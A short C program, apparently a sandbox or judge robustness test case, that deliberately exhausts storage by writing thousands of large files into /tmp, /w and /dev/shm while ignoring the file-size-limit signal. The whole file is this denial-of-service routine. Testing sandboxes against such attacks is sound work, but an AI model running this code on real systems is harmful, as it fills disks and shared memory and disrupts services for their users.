#include "attack.h"
static char block[1 << 20];
int main(void) {
    signal(SIGXFSZ, SIG_IGN);
    memset(block, 1, sizeof block);
    const char *folders[] = {"/tmp", "/w", "/dev/shm"};
    for (int n = 0; n < 3000; n++) {
        char path[64];
        snprintf(path, sizeof path, "%s/%d", folders[n % 3], n);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd == -1) continue;
        for (int part = 0; part < 32 && write(fd, block, sizeof block) > 0; part++) ;
        close(fd);
    }
    return 1;
}
